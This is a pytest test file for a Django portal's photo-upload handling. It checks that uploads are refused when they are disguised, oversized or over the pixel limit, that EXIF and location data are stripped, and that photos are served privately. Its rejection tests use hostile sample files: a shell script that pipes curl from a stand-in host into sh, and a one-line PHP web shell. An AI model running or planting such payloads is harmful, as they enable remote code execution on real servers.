import io
import time
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import ExifTags, Image

from training.models import PhotoPair
from training.visits import photos, services

from .factories import image_bytes, make_photo_pair, upload

SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def stored_files(media_root: Path) -> list[Path]:
    return [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []


def post_pair(client, enterprise, before, after=None):
    data = {"area": "Cutting section", "caption": "Fabric rolls", "before": before}
    if after is not None:
        data["after"] = after
    return client.post(reverse("training:photo_new", args=[enterprise.pk]), data)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("cutting.jpg", SCRIPT, "image/jpeg"),
        ("cutting.png", b"<?php system($_GET['c']); ?>", "image/png"),
        ("cutting.jpg", b"%PDF-1.4\n1 0 obj<<>>endobj\n", "image/jpeg"),
        ("cutting.gif", image_bytes("GIF", gps=False), "image/gif"),  # a real image, but not an accepted format
        ("cutting.jpg", image_bytes()[:200], "image/jpeg"),  # a truncated JPEG
    ],
)
def test_a_disguised_or_unaccepted_file_is_refused_and_nothing_is_stored(
    client, consultant, enterprise, private_media, name, content, content_type
):
    client.force_login(consultant)
    response = post_pair(client, enterprise, upload(name, content, content_type))
    assert response.status_code == 200
    assert "not a JPEG, PNG or WebP photo" in response.content.decode()
    assert PhotoPair.objects.count() == 0
    assert stored_files(private_media) == []


@pytest.mark.django_db
def test_a_good_before_photo_with_a_disguised_after_photo_stores_nothing(client, consultant, enterprise, private_media):
    client.force_login(consultant)
    response = post_pair(client, enterprise, upload("before.jpg"), upload("after.jpg", SCRIPT))
    assert response.status_code == 200
    assert PhotoPair.objects.count() == 0 and stored_files(private_media) == []


@pytest.mark.django_db
def test_a_file_over_the_size_cap_is_refused(client, consultant, enterprise, private_media, monkeypatch):
    monkeypatch.setattr(photos, "MAX_UPLOAD_BYTES", 1000)
    client.force_login(consultant)
    response = post_pair(client, enterprise, upload("big.jpg", image_bytes(size=(400, 400))))
    assert "larger than" in response.content.decode()
    assert PhotoPair.objects.count() == 0 and stored_files(private_media) == []


@pytest.mark.django_db
def test_the_stored_photo_has_no_exif_or_location_and_a_thumbnail(client, consultant, enterprise, private_media):
    original = image_bytes(size=(1200, 900))
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the upload has a location
    client.force_login(consultant)
    response = post_pair(client, enterprise, upload("before.jpg", original))
    assert response.status_code == 302
    pair = PhotoPair.objects.get()
    root = Path(private_media)
    assert pair.before.name.startswith(f"training/photos/{enterprise.pk}/")
    with Image.open(root / pair.before.name) as stored:
        assert stored.format == "JPEG" and stored.size == (1200, 900)
        assert len(stored.getexif()) == 0
        assert "exif" not in stored.info
    with Image.open(root / pair.before_thumb.name) as thumb:
        assert max(thumb.size) == photos.THUMB_SIDE
    assert not pair.after


@pytest.mark.django_db
def test_the_photo_is_kept_private_under_media_root_and_never_served_as_a_static_file(
    client, consultant, enterprise, private_media, settings
):
    client.force_login(consultant)
    post_pair(client, enterprise, upload("before.jpg"))
    pair = PhotoPair.objects.get()
    stored = Path(default_storage.path(pair.before.name)).resolve()
    assert stored.is_file() and stored.is_relative_to(Path(private_media).resolve())
    static_folders = [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]
    assert not any(stored.is_relative_to(folder.resolve()) for folder in static_folders)
    assert finders.find(pair.before.name) is None  # no static finder (app folders included) knows it
    # Neither the static nor the media URL hands it out; only the view that checks who asks does.
    for url in (f"/{settings.STATIC_URL.strip('/')}/{pair.before.name}", f"{settings.MEDIA_URL}{pair.before.name}"):
        assert client.get(url).status_code == 404, url
    served = client.get(reverse("training:photo_file", args=[pair.pk, "before"]))
    assert b"".join(served.streaming_content) == stored.read_bytes()
    client.logout()
    assert client.get(reverse("training:photo_file", args=[pair.pk, "before"])).status_code == 302


def test_the_configured_media_root_and_the_static_folders_do_not_overlap():
    # The tests above run with a temporary MEDIA_ROOT; this is the one the portal runs with.
    from score_portal import settings as configured

    media = Path(configured.MEDIA_ROOT).resolve()
    for folder in [Path(configured.STATIC_ROOT), *map(Path, configured.STATICFILES_DIRS)]:
        folder = folder.resolve()
        assert not media.is_relative_to(folder) and not folder.is_relative_to(media), folder


@pytest.mark.django_db
def test_png_and_webp_are_accepted_and_served_with_their_type(client, consultant, enterprise):
    client.force_login(consultant)
    post_pair(
        client,
        enterprise,
        upload("b.webp", image_bytes("WEBP"), "image/webp"),
        upload("a.png", image_bytes("PNG"), "image/png"),
    )
    pair = PhotoPair.objects.get()
    response = client.get(reverse("training:photo_file", args=[pair.pk, "before"]))
    assert response.status_code == 200 and response["Content-Type"] == "image/webp"
    assert response["Cache-Control"].startswith("private")
    response = client.get(reverse("training:photo_file", args=[pair.pk, "after-thumb"]))
    assert response["Content-Type"] == "image/png"
    assert Image.open(io.BytesIO(b"".join(response.streaming_content))).format == "PNG"


@pytest.mark.django_db
def test_the_after_photo_is_added_later_and_the_page_shows_the_pair_side_by_side(client, consultant, enterprise):
    pair = make_photo_pair(enterprise, consultant, with_after=False)
    client.force_login(consultant)
    page = client.get(reverse("training:enterprise_detail", args=[enterprise.pk])).content.decode()
    assert "No after photo yet." in page
    response = client.post(reverse("training:photo_after", args=[pair.pk]), {"after": upload("after.jpg")})
    assert response.status_code == 302
    pair.refresh_from_db()
    assert pair.after and pair.after_taken_on
    page = client.get(reverse("training:enterprise_detail", args=[enterprise.pk])).content.decode()
    assert reverse("training:photo_file", args=[pair.pk, "before-thumb"]) in page
    assert reverse("training:photo_file", args=[pair.pk, "after-thumb"]) in page


@pytest.mark.django_db
def test_files_are_removed_if_the_row_cannot_be_saved(consultant, enterprise, private_media, monkeypatch):
    def broken_create(**kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(PhotoPair.objects, "create", broken_create)
    with pytest.raises(RuntimeError):
        services.store_photo_pair(enterprise, area="Store", caption="", before=upload(), by=consultant)
    assert stored_files(private_media) == []


def test_clean_photo_refuses_a_script_without_touching_disk():
    with pytest.raises(ValidationError):
        photos.clean_photo(upload("x.jpg", SCRIPT))


def huge_photo(fmt, size) -> bytes:
    """Many pixels in a small file: one flat colour compresses to almost nothing."""
    image = Image.new("L" if fmt == "JPEG" else "1", size, 128 if fmt == "JPEG" else 1)
    out = io.BytesIO()
    image.save(out, format=fmt)
    return out.getvalue()


HUGE = {
    # 40 MP: over the limit, under Pillow's hard stop at twice it (Pillow only warns; photos.py refuses).
    "40 MP JPEG": ("big.jpg", "JPEG", (8000, 5000)),
    "40 MP PNG": ("big.png", "PNG", (8000, 5000)),
    # 70 MP: over twice the limit, where Pillow itself raises DecompressionBombError.
    "70 MP PNG": ("big.png", "PNG", (10000, 7000)),
}


@pytest.fixture(scope="module")
def huge_photos():
    return {case: (name, huge_photo(fmt, size)) for case, (name, fmt, size) in HUGE.items()}


@pytest.mark.parametrize("case", HUGE)
def test_a_photo_over_the_pixel_limit_is_refused_from_its_header_without_decoding(huge_photos, case):
    name, data = huge_photos[case]
    assert len(data) < photos.MAX_UPLOAD_BYTES  # a small file: only its pixel count gives it away
    started = time.perf_counter()
    with pytest.raises(ValidationError) as refusal:
        photos.clean_photo(upload(name, data))
    elapsed = time.perf_counter() - started
    assert refusal.value.code == "too_many_pixels"
    assert f"more than {settings.MAX_IMAGE_MEGAPIXELS} megapixels" in refusal.value.messages[0]
    # Decoding and re-encoding 40 MP takes over 2 s here; reading a header takes about a millisecond.
    assert elapsed < 0.25, f"{case} took {elapsed:.3f} s to refuse"


@pytest.mark.django_db
def test_a_forty_megapixel_photo_gets_a_clear_form_error_and_nothing_is_stored(
    client, consultant, enterprise, private_media, huge_photos
):
    client.force_login(consultant)
    name, data = huge_photos["40 MP JPEG"]
    response = post_pair(client, enterprise, upload(name, data))
    assert response.status_code == 200
    page = response.content.decode()
    assert f"The photo has more than {settings.MAX_IMAGE_MEGAPIXELS} megapixels." in page
    assert "lower resolution" in page
    assert PhotoPair.objects.count() == 0 and stored_files(private_media) == []


@pytest.mark.django_db
def test_photos_go_through_under_the_request_size_limit_and_a_larger_request_is_refused(
    client, consultant, enterprise, private_media, settings
):
    client.force_login(consultant)
    photo = image_bytes(size=(1600, 1200))
    settings.MAX_REQUEST_BODY_BYTES = 3 * len(photo)
    response = post_pair(client, enterprise, upload("before.jpg", photo), upload("after.jpg", photo))
    assert response.status_code == 302
    assert PhotoPair.objects.get().after

    settings.MAX_REQUEST_BODY_BYTES = len(photo)  # two photos no longer fit in one request
    response = post_pair(client, enterprise, upload("before.jpg", photo), upload("after.jpg", photo))
    assert response.status_code == 413
    assert "What you sent is too large" in response.content.decode()
    assert PhotoPair.objects.count() == 1
